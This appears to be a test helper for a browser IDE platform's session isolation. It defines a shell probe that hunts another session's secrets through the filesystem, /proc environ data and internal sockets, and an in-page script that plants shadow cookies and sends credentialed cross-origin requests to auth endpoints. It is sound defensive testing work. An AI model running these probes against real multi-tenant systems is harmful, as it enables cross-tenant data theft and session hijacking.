// What somebody tries who has a foot in one session, for the tests here: from its terminal, and from a script in its IDE's page.

/**
 * A script for the terminal: writes to found.txt each trace that it finds of another session, of a file in it and what that says,
 * and of the server; control.txt shows that it can find and ask at all.
 */
export const probe = ({ server, other, file, secret }) => `
touch /workspace/probing
secret='${secret.slice(0, 4)}''${secret.slice(4)}' other='${other.slice(0, 10)}''${other.slice(10)}'
{
  find / \\( -path /proc -o -path /sys \\) -prune -o \\( -name '${file}' -o -name "*$other*" \\) -print
  grep -rlsF -- "$secret" /workspace /home /tmp /run /var/tmp /var/lib /dev/shm /opt /mnt /srv /root
  grep -lsF -- "$other" /proc/[0-9]*/cmdline /proc/[0-9]*/environ /proc/[0-9]*/mountinfo /proc/net/unix
  cat /proc/1/environ /proc/1/maps; ls /proc/1/fd /proc/1/cwd/; ls '${server.data}'
  for host in 127.0.0.1 '[::1]' localhost 10.0.2.2 10.0.2.3 coditect.localhost $(hostname -I); do
    curl -sS -m 3 "http://$host:${server.port}/health" && echo "reached the server at $host"
  done
  for socket in $(find / \\( -path /proc -o -path /sys \\) -prune -o -type s -print); do
    for path in / /status /coditect/session; do
      curl -s -m 3 --unix-socket "$socket" "http://$other.ide.coditect.localhost:${server.port}$path" | grep -sF -e "$other" -e "$secret"
    done
  done
} 2>/dev/null > /tmp/found
mv /tmp/found /workspace/found.txt
{ grep -lsF -- CODITECT /proc/[0-9]*/environ | wc -l; curl -sS --unix-socket /run/coditect/door/door.sock http://door/status; } > /tmp/control
mv /tmp/control /workspace/control.txt
`;

/**
 * Runs in the page: tries the platform and other sessions by each means that a page has; a word for each try. What is neither
 * refused nor answered after a while has done nothing either.
 */
export function attack({ platform, other }) {
  const call = (url, options) => fetch(url, { credentials: "include", ...options }).then((reply) => reply.type, () => "failed");
  const socket = (url) => new Promise((resolve) => {
    const one = new WebSocket(url.replace("http", "ws"));
    one.onopen = () => resolve("opened");
    one.onerror = () => resolve("failed");
  });
  const framed = (url) => new Promise((resolve) => {
    const one = document.createElement("iframe");
    one.onload = () => resolve("loaded");
    one.src = url;
    document.body.append(one);
  });
  const form = (url) => new Promise((resolve) => {
    const target = Object.assign(document.createElement("iframe"), { name: url });
    const one = Object.assign(document.createElement("form"), { method: "POST", action: url, target: url, enctype: "text/plain" });
    document.body.append(target, one);
    target.onload = () => resolve("loaded");
    one.submit();
  });
  for (const name of ["__Host-coditect-refresh", "coditect-refresh", "__Host-coditect-ide", "coditect-ide"]) {
    for (const where of ["", "; Path=/", "; Path=/; Secure", "; Domain=coditect.localhost; Path=/", "; Domain=coditect.localhost; Path=/api/v5/auth; Secure"]) {
      document.cookie = `${name}=shadow${where}`;
    }
  }
  const tries = ["/auth/logout", "/auth/refresh", "/users/me"].map((path) => `${platform}/api/v5${path}`).flatMap((url) => [
    form(url),
    ...["cors", "no-cors"].flatMap((mode) => [call(url, { mode }), call(url, { mode, method: "POST", body: "{}" })]),
  ]);
  tries.push(framed(`${platform}/`), socket(`${platform}/ws/events`), framed(`${other}/`), call(`${other}/`), call(`${other}/`, { mode: "no-cors" }), socket(`${other}/socket.io/?EIO=4&transport=websocket`));
  const late = new Promise((resolve) => setTimeout(resolve, 15_000, "silence"));
  return Promise.all(tries.map((one) => Promise.race([one, late])));
}
